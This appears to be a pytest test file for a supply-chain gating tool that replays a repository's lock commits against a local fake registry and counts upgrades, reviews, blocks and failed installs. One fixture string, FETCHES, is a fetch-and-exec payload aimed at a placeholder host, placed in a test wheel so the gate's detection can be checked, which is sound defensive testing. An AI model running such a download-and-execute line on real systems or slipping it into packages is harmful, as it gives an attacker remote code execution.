"""An ordinary quarter: locks of a git repository, replayed through the gate by the clock of their commits."""

import argparse
import asyncio
import hashlib
import json
import urllib.request
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from gauntlet.front import Front, serving
from gauntlet.incident import utc
from gauntlet.quarter import Price, replay
from gauntlet.quarter_page import _section
from gauntlet.upgrades import history_of

from gauntlet import quarter
from pratique.core.names import Ecosystem
from tests.git import Git, repository
from tests.loopback import LoopbackRegistry, NpmPackage, NpmRelease, PypiFile, PypiProject, wheel_file

OLD, YOUNG = utc("2025-01-01"), utc("2025-04-10")
FETCHES = "import urllib.request\nexec(urllib.request.urlopen('http://sink.invalid/marker').read())\n"


def wheel(version: str, at: datetime, code: str = "VALUE = 1\n") -> PypiFile:
    return wheel_file("calm", version, {"calm.py": code}, uploaded_at=at)


FILES = (wheel("1.0.0", OLD), wheel("1.1.0", OLD), wheel("1.2.0", YOUNG), wheel("1.3.0", OLD, FETCHES))


def lock(registry: LoopbackRegistry, *versions: str) -> str:
    lines = [
        f"calm=={file.version} --hash=sha256:{_sha256(file)}\n" for file in FILES if file.version in versions
    ]
    return "".join(lines)


def _sha256(file: PypiFile) -> str:
    return hashlib.sha256(file.data).hexdigest()


@pytest.fixture
def project(tmp_path: Path) -> Git:
    git = repository(tmp_path / "project")
    (git.folder / "requirements").mkdir()
    return git


def commit(git: Git, text: str, at: str) -> None:
    (git.folder / "requirements/main.txt").write_text(text)
    git.commit(at=at)


def replayed(git: Git, monkeypatch: pytest.MonkeyPatch, registry: LoopbackRegistry) -> Price:
    monkeypatch.setenv("PIP_INDEX_URL", registry.pypi_url)
    asked = argparse.Namespace(
        repository=git.folder,
        project="acme/app",
        ecosystem="pypi",
        path="requirements/",
        since="2025-04-01",
        until="2025-07-01",
    )
    return replay(asked, {})


def test_what_is_old_comes_in_at_once_and_what_is_young_waits(
    project: Git, monkeypatch: pytest.MonkeyPatch
) -> None:
    with LoopbackRegistry(pypi=[PypiProject(name="calm", files=FILES)]) as registry:
        commit(project, lock(registry, "1.0.0"), "2025-03-01T00:00:00Z")
        commit(project, lock(registry, "1.1.0"), "2025-04-02T00:00:00Z")
        commit(project, lock(registry, "1.2.0"), "2025-04-11T00:00:00Z")
        commit(project, lock(registry, "1.0.0"), "2025-08-01T00:00:00Z")
        found = replayed(project, monkeypatch, registry)
    assert (2, 2, 2, 1) == (found.commits, found.upgrades, found.replayed, found.held_before)
    assert (1, 1, [48.0]) == (found.installed_at_once, found.waited, found.hours)
    assert ([], [], []) == (found.reviews, found.blocks, found.failed)


def test_what_a_person_would_have_to_look_at_is_counted(
    project: Git, monkeypatch: pytest.MonkeyPatch
) -> None:
    with LoopbackRegistry(pypi=[PypiProject(name="calm", files=FILES)]) as registry:
        commit(project, lock(registry, "1.0.0"), "2025-03-01T00:00:00Z")
        commit(project, lock(registry, "1.3.0"), "2025-04-02T00:00:00Z")
        found = replayed(project, monkeypatch, registry)
    assert 1 == len(found.reviews) + len(found.blocks)
    assert "calm==1.3.0" in (*found.reviews, *found.blocks)[0]
    assert 0 == found.installed_at_once


def test_what_the_registry_does_not_have_is_a_failed_install(
    project: Git, monkeypatch: pytest.MonkeyPatch
) -> None:
    with LoopbackRegistry(pypi=[PypiProject(name="calm", files=FILES[:1])]) as registry:
        commit(project, lock(registry, "1.0.0"), "2025-03-01T00:00:00Z")
        commit(project, lock(registry, "1.1.0"), "2025-04-02T00:00:00Z")
        found = replayed(project, monkeypatch, registry)
    assert 1 == len(found.failed)
    assert "calm==1.1.0" in found.failed[0]


def test_only_what_no_lock_held_before_is_an_upgrade(project: Git) -> None:
    with LoopbackRegistry() as registry:
        commit(project, lock(registry, "1.0.0"), "2025-03-01T00:00:00Z")
        commit(project, lock(registry, "1.0.0", "1.1.0"), "2025-04-02T00:00:00Z")
        commit(project, "# a remark\n" + lock(registry, "1.0.0", "1.1.0"), "2025-04-03T00:00:00Z")
    found = history_of(
        project.folder, Ecosystem.PYPI, path="requirements/", since=utc("2025-04-01"), until=utc("2025-05-01")
    )
    assert [["calm==1.1.0"], []] == [[str(one.ref) for one in step.new] for step in found.steps]


RECORDED = {
    "calm": {
        "name": "calm",
        "created": "2020-01-01T00:00:00.000Z",
        "versions": {
            "1.0.0": {"t": "2020-01-01T00:00:00.000Z", "u": "ada", "m": ["ada", "bob"]},
            "1.1.0": {"t": "2020-06-01T00:00:00.000Z", "u": "bob", "m": ["bob"]},
        },
    }
}


async def listed(registry: LoopbackRegistry, at: str) -> Any:
    front = Front(now=lambda: utc(at), npm=registry.npm_url, pypi=registry.pypi_url, recorded=RECORDED)
    async with serving(front):
        return await asyncio.to_thread(
            lambda: json.load(urllib.request.urlopen(front.npm_url + "calm", timeout=30))
        )


@pytest.mark.parametrize(
    ("at", "versions", "publisher"),
    [("2020-05-01", ["1.0.0"], "ada"), ("2020-07-01", ["1.0.0", "1.1.0"], "bob")],
    ids=["before", "after"],
)
def test_npms_times_and_people_are_those_of_the_record(at: str, versions: list[str], publisher: str) -> None:
    releases = tuple(NpmRelease(version=one) for one in ("1.0.0", "1.1.0", "1.2.0"))
    with LoopbackRegistry(npm=[NpmPackage(name="calm", releases=releases)], mirror=True) as registry:
        page = asyncio.run(listed(registry, at))
    assert versions == list(page["versions"])
    assert versions[-1] == page["dist-tags"]["latest"]
    assert publisher == page["versions"][versions[-1]]["_npmUser"]["name"]
    assert RECORDED["calm"]["versions"][versions[-1]]["t"] == page["time"][versions[-1]]  # type: ignore[index]


def test_a_result_takes_the_place_of_the_one_before(tmp_path: Path) -> None:
    path = tmp_path / "quarter.json"
    made = Price(
        project="acme/app",
        ecosystem="npm",
        since="2025-04-01",
        until="2025-07-01",
        times="the record",
        commits=3,
        held_before=10,
        upgrades=4,
        replayed=4,
    )
    quarter.keep(made, path)
    quarter.keep(made, path)
    (kept,) = json.loads(path.read_text())
    assert "The quarter meets the goal of at most 2 reviews, no block and no failed install." in _section(
        [kept]
    )
    assert "does NOT meet" in _section([{**kept, "failed": ["calm@1.0.0: why"]}])
    assert "does NOT meet" in _section([{**kept, "reviews": ["a", "b", "c"]}])
